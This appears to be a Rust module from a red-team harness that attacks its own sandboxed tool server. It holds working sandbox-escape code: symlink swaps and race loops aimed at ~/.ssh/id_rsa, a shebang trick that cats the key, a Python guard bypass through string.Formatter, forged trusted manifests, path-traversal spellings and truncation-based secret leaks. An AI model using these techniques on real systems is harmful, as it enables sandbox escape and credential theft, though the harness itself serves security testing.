//! How a row is tried: the sequence of requests that its attacker sends.

use std::path::{Path, PathBuf};
use std::thread::sleep;
use std::time::Duration;

use serde_json::{Map, Value, json};

use crate::dimensions::{Goal, Row, Tool};
use crate::edits;
use crate::folder::{DEEDS, Folder, Words};
use crate::others;
use crate::possible::CODE;
use crate::reports;
use crate::repository;
use crate::surfaces::listeners::Listeners;
use crate::world::World;

/// The parameters of hostile code: where things are, and what to leave there.
pub(crate) fn facts(
    goal: Goal,
    folder: &Folder,
    listeners: &Listeners,
    server: u32,
    mark: &str,
) -> Value {
    let mut targets = Map::new();
    targets.insert(goal.name().to_owned(), json!(folder.targets(goal)));
    let [stream, datagram] = &listeners.names;
    json!({
        "mark": mark, "targets": targets, "port": listeners.port, "server": server,
        "sockets": {
            "unix_datagram": [listeners.datagram], "unix_stream": [listeners.stream],
            "abstract_socket": [format!("@{stream}"), format!("@{datagram}")]
        },
        "pwned": pwned(folder),
        "plant": match goal {
            Goal::RunUnconfined => plants(folder),
            Goal::RunWhileEdited => edits::plants(folder),
            _ => Vec::new(),
        },
    })
}

/// The mark that an unconfined program leaves.
pub(crate) fn pwned(folder: &Folder) -> PathBuf {
    folder.outside().join("pwned")
}

/// A script that leaves the mark.
pub(crate) fn script(folder: &Folder) -> String {
    format!("#!/bin/sh\necho pwned > {}\n", pwned(folder).display())
}

/// Files that others would run unconfined.
fn plants(folder: &Folder) -> Vec<(PathBuf, String)> {
    let (pwned, script) = (pwned(folder), script(folder));
    let manifest = format!(
        "toolcrib: 1\ntools:\n  - name: forged\n    description: Forged.\n    input: {{properties: {{}}}}\n    \
         run: {{argv: [touch, {}]}}\n    sandbox: {{profile: trusted}}\n",
        pwned.display()
    );
    let site = folder.site();
    vec![
        (site.join("tools.d/zz-forged.yaml"), manifest.clone()),
        (folder.manifest_folder().join("zz-forged.yaml"), manifest),
        (site.join("scripts/tidy.sh"), script.clone()),
        (site.join("target/debug/toolcrib-jail"), script),
    ]
}

impl World {
    /// Tries a row; returns everything that its attacker received.
    pub(crate) fn attack(&mut self, row: &Row, mark: &str) -> String {
        let goal = row.goal;
        match row.tool {
            tool if CODE.contains(&tool) && goal == Goal::InterpreterLine => {
                self.interpreter_line(row)
            }
            tool if CODE.contains(&tool) && goal == Goal::RunWhileEdited => {
                edits::attack(self, row, mark)
            }
            tool if CODE.contains(&tool) || tool == Tool::Temporary => {
                let facts = facts(goal, &self.folder, &self.listeners, self.server(), mark);
                let mut heard = self.run_code(row, goal.name(), &facts);
                if goal == Goal::RunUnconfined {
                    heard += &self.let_plants_run(row);
                }
                if goal == Goal::SetId {
                    self.fill_what_was_left(row);
                }
                heard
            }
            Tool::FileWrite if goal == Goal::RunUnconfined => {
                for (path, text) in plants(&self.folder) {
                    for path in spellings(&self.folder, &path) {
                        self.call(row, "file_write", &json!({"path": path, "content": text}));
                    }
                }
                self.let_plants_run(row)
            }
            Tool::Cwd | Tool::Grant => self.swap(row),
            Tool::Secret => self.cut_secrets(row),
            Tool::Letter => {
                let mut heard =
                    self.call(row, "red_letter", &json!({"to": format!("sent-{mark}")}));
                heard +=
                    &self.newest_call(row, "red_letter", &json!({"to": format!("sent-{mark}")}));
                heard
            }
            Tool::ReadOutput | Tool::Runs => others::take(self, row),
            Tool::Reports => reports::attack(self, row),
            Tool::CommandLine => crate::looking::attack(&self.folder, row.goal),
            _ => self.by_path(row),
        }
    }

    /// Runs hostile code with the row's tool.
    pub(crate) fn run_code(&mut self, row: &Row, deed: &str, facts: &Value) -> String {
        let facts = facts.to_string();
        let arguments = json!({"deed": deed, "facts": facts});
        let python =
            |strictness: &str| json!({"strictness": strictness, "code": python(deed, &facts)});
        let quoted = facts.replace('\'', "'\\''");
        match row.tool {
            Tool::Bash => {
                let command = format!("/usr/bin/python3 kit/deeds.py -- {deed} '{quoted}'");
                self.call(row, "bash", &json!({"command": command}))
            }
            Tool::PythonStrict => self.call(row, "execute_python", &python("strict")),
            Tool::PythonStandard => self.call(row, "execute_python", &python("standard")),
            Tool::PythonLenient => {
                let code = format!(
                    "import sys\nsys.argv = ['deeds', {deed:?}, {}]\n{DEEDS}",
                    json!(facts)
                );
                self.call(row, "execute_python", &json!({"strictness": "lenient", "code": code}))
            }
            Tool::Upstream => self.call(row, "hostile_run", &arguments),
            Tool::GitStatus => repository::run_code(self, row, deed, &facts),
            tool => self.call(row, &format!("red_{}", tool.name()), &arguments),
        }
    }

    /// Calls the tools that would run planted files, if there are any.
    fn let_plants_run(&mut self, row: &Row) -> String {
        let planted = |(path, text): &(PathBuf, String)| {
            std::fs::read_to_string(path).is_ok_and(|found| found == *text)
        };
        let mut heard = String::new();
        if plants(&self.folder).iter().any(planted) {
            for _ in 0..8 {
                heard += &self.call(row, "forged", &json!({}));
                if pwned(&self.folder).exists() {
                    break;
                }
                sleep(Duration::from_millis(150));
            }
            heard += &self.call(row, "red_trusted", &json!({}));
            heard += &self.call(row, "execute_python", &json!({"code": "print(1)"}));
        }
        heard
    }

    /// Appends to every set-ID file that hostile code has created: overwriting it would keep the
    /// bit.
    fn fill_what_was_left(&mut self, row: &Row) {
        for name in ["user/sid-empty", "group/sid-empty", "both/sid-open", "out/both/sid-empty"] {
            self.call(
                row,
                "file_write",
                &json!({"path": name, "content": "#!/bin/sh\n", "mode": "append"}),
            );
        }
    }

    /// Replaces a folder that a manifest names by a link, then calls the tool.
    fn swap(&mut self, row: &Row) -> String {
        let (folder, to) = if row.tool == Tool::Cwd {
            ("docs", self.folder.home().join(".ssh"))
        } else {
            ("out", self.folder.outside())
        };
        let to = to.display();
        let swap = format!("mv {folder} {folder}.old; ln -s {to} {folder}; ls -l");
        let mut heard = self.call(row, "bash", &json!({"command": swap}));
        heard += &match row.tool {
            Tool::Cwd => self.call(row, "red_docs", &json!({"path": "id_rsa"})),
            _ => self.call(row, "red_grant", &json!({"name": "through-the-link"})),
        };
        // Tries again while the link is created and removed.
        let dance = format!(
            "for i in $(seq 400); do rm -f {folder}; mkdir -p {folder}; rmdir {folder}; ln -sfn {to} {folder}; done"
        );
        heard + &self.call(row, "bash", &json!({"command": dance}))
    }

    /// Names a file outside as the interpreter of a program in the workspace.
    fn interpreter_line(&mut self, row: &Row) -> String {
        let key = self.folder.home().join(".ssh/id_rsa");
        let workspace = self.folder.workspace();
        let prepare = format!(
            "ln -sf {key} lnk; ln -sf /usr/bin/cat 'lnk\x0cf'; \
             printf '#!%s/lnk\\ff %s/lnk\\n' {workspace} {workspace} > new.sh; chmod 755 new.sh; \
             mv new.sh build.sh; cat build.sh",
            key = key.display(),
            workspace = workspace.display(),
        );
        let mut heard = self.call(row, "bash", &json!({"command": prepare}));
        heard += &self.call(row, "red_program", &json!({"deed": "hello", "facts": "{}"}));
        heard
    }

    /// Moves a secret across the positions where long outputs are truncated.
    fn cut_secrets(&mut self, row: &Row) -> String {
        let mut heard = String::new();
        let length = Words::get().secret.len();
        let part = Words::get().secret.len() / 2;
        for limit in [48 * 1024, 64 * 1024, 16_000, 768 * 1024] {
            for shift in [4, part, length - 4] {
                if row.goal == Goal::RedactedAtCut {
                    // The kept tail is filled so far that the cut is after the name.
                    for tail in [16 * 1024, 64 * 1024, 24_000, 12_000] {
                        let after = tail - Words::get().password.len() - shift % 3;
                        heard += &self.call(row, "red_password", &json!({"after": after}));
                    }
                    return heard;
                }
                let before = limit - shift;
                heard +=
                    &self.call(row, "red_secret", &json!({"before": before, "after": 100_000}));
            }
        }
        heard
    }

    /// Calls a tool with the paths that lead to the goal, in every spelling.
    fn by_path(&mut self, row: &Row) -> String {
        let mut heard = String::new();
        for target in self.folder.targets(row.goal) {
            for path in spellings(&self.folder, &target) {
                for (tool, arguments) in requests(row.tool, &path) {
                    heard += &self.call(row, tool, &arguments);
                }
            }
        }
        heard
    }
}

/// The calls of a tool that takes a path.
fn requests(tool: Tool, path: &str) -> Vec<(&'static str, Value)> {
    let forged = "redteam-forged\n";
    match tool {
        Tool::FileWrite => vec![("file_write", json!({"path": path, "content": forged}))],
        Tool::FileAppend => {
            vec![("file_write", json!({"path": path, "content": forged, "mode": "append"}))]
        }
        Tool::EditFile => ["a", "planted by the operator\n", "toolcrib", "#!/bin/sh"]
            .into_iter()
            .map(|from| {
                let change = json!({"path": path, "source_text": from, "target_text": forged, "replace_all": true});
                ("edit_file", change)
            })
            .collect(),
        Tool::FileDelete => {
            let folder = Path::new(path).parent().map(|folder| folder.display().to_string());
            let mut requests = vec![("file_delete", json!({"path": path}))];
            // Its folder, unless that is the workspace or above it.
            if let Some(folder) = folder.filter(|folder| !folder.is_empty() && !folder.ends_with("..")) {
                requests.push(("file_delete", json!({"path": folder, "recursive": true})));
            }
            requests
        }
        Tool::FileMkdir => vec![
            ("file_mkdir", json!({"path": path})),
            ("file_mkdir", json!({"path": format!("{path}/forged")})),
        ],
        Tool::FileRead => vec![("file_read", json!({"path": path}))],
        Tool::FileList => vec![
            ("file_list", json!({"path": path})),
            ("file_list", json!({"pattern": format!("{path}/**")})),
        ],
        Tool::FileSearch => vec![
            ("file_search", json!({"path": path, "pattern": "."})),
            ("file_search", json!({"pattern": "CANARY|token"})),
        ],
        Tool::SearchLog => vec![("search_log", json!({"path": path, "pattern": "."}))],
        Tool::GitLog => vec![
            ("git_log", json!({"path": path})),
            ("git_log", json!({"path": ".", "file": path})),
        ],
        Tool::LargeFiles => vec![("large_files", json!({"path": path, "min_size": "1k"}))],
        _ => vec![(tool.name(), json!({"path": path}))],
    }
}

/// The spellings of a path that a client may try.
fn spellings(folder: &Folder, path: &Path) -> Vec<String> {
    let workspace = folder.workspace();
    let mut spellings = Vec::new();
    if let Ok(relative) = path.strip_prefix(&workspace) {
        spellings.push(relative.display().to_string());
        spellings.push(format!("docs/../{}", relative.display()));
    }
    spellings.push(path.display().to_string());
    if let Ok(beneath) = path.strip_prefix(folder.base()) {
        let up = "../".repeat(
            workspace.strip_prefix(folder.base()).map_or(0, |below| below.components().count()),
        );
        spellings.push(format!("{up}{}", beneath.display()));
        spellings.push(format!("exit/{}", beneath.display()));
    }
    spellings
}

/// Python code that bypasses the guard, so that only the jail is left.
fn python(deed: &str, facts: &str) -> String {
    format!(
        "import string\nformatter = string.Formatter()\n\
         def reach(what, name):\n    return formatter.get_field('0.' + name, (what,), {{}})[0]\n\
         real = reach(string.Formatter.format, '__globals__')['__builtins__']\n\
         names = {{'__builtins__': real, '__name__': 'deeds'}}\n\
         real['exec']({}, names)\nnames['do']({}, names['json'].loads({}))\n",
        json!(DEEDS),
        json!(deed),
        json!(facts),
    )
}
